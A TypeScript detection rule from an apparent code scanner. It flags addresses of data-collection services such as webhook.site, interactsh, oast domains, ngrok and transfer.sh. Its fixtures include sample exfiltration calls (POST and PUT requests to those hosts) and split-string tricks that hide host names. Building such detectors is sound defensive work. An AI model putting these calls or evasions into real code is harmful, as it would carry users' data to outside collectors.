import type { Rule } from "../../rule.ts";

/** Hosts whose only use is to collect what is sent to them. */
const COLLECTOR =
  /(?:^|[/@.])(?:webhook\.site|requestbin\.(?:com|net)|[\w-]+\.m\.pipedream\.net|pipedream\.net|burpcollaborator\.net|oastify\.com|interact\.sh|interactsh\.com|oast\.(?:pro|live|site|online|fun|me)|canarytokens\.(?:com|org)|dnslog\.cn|ceye\.io|requestcatcher\.com|beeceptor\.com|hookbin\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|localtunnel\.me|loca\.lt|serveo\.net|transfer\.sh|file\.io|0x0\.st|paste\.ee|hastebin\.com|termbin\.com|ix\.io|dpaste\.(?:com|org)|pastebin\.com\/(?:raw|api)|anonfiles\.com|ipify\.org|ifconfig\.me|ipinfo\.io|checkip\.amazonaws\.com)(?:[:/?#]|$)/i;

export const collectorHost: Rule = {
  ruleId: "exfiltration.collector_host",
  category: "exfiltration",
  severity: "critical",
  message: "This address belongs to a service that collects what is sent to it.",
  looksLike: "`webhook.site`, `oast.pro`, `ngrok.io`, `transfer.sh` in an address.",
  why: "Such addresses stand in programs that carry data away.",
  fix: "Give the result back as the value of the program.",
  in: {
    python: {
      when: [{ text: COLLECTOR }],
      bad: [
        'url = "https://webhook.site/abc"',
        'host = "abc.oast" + ".pro"',
        'import requests\nrequests.post("https://a.ngrok.io/x", data="b")',
      ],
      good: ['print("See https://a.example/webhook")', 'mail = "ann@profile.io"'],
    },
    javascript: {
      when: [{ text: COLLECTOR }],
      bad: [
        'fetch("https://transfer.sh/a", { method: "PUT" })',
        'const host = ["x", "interact", "sh"].join(".");',
      ],
      good: ['const url = "https://shop.example/site";'],
    },
    sql: {
      when: [{ text: COLLECTOR }],
      bad: ["SELECT * FROM read_csv('https://webhook.site/abc.csv')"],
      good: ["SELECT 'site' AS webhook"],
    },
    elixir: {
      when: [{ text: COLLECTOR }],
      bad: ['Req.post!("https://webhook.site/abc", body: "a")', 'host = "abc.interact" <> ".sh"'],
      good: ['url = "https://a.example/file.io.html"'],
    },
  },
};
